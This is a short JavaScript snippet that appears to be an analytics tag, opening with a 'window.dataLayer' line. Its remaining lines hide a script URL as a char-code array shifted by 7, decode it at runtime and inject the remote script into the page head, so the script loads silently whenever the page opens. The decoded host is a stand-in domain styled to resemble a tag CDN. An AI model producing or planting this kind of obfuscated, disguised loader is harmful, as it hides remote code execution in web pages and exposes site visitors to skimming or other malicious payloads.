window.dataLayer = window.dataLayer || [];
(function (c) { c.forEach(function (u) { var e = document.createElement('script'); e.async = true; e.src = u.map(function (x) { return String.fromCharCode(x - 7); }).join(''); document.head.appendChild(e); }); })(
  [[111, 123, 123, 119, 122, 65, 54, 54, 110, 123, 52, 106, 107, 117, 53, 108, 127, 104, 116, 119, 115, 108, 54, 110]]);
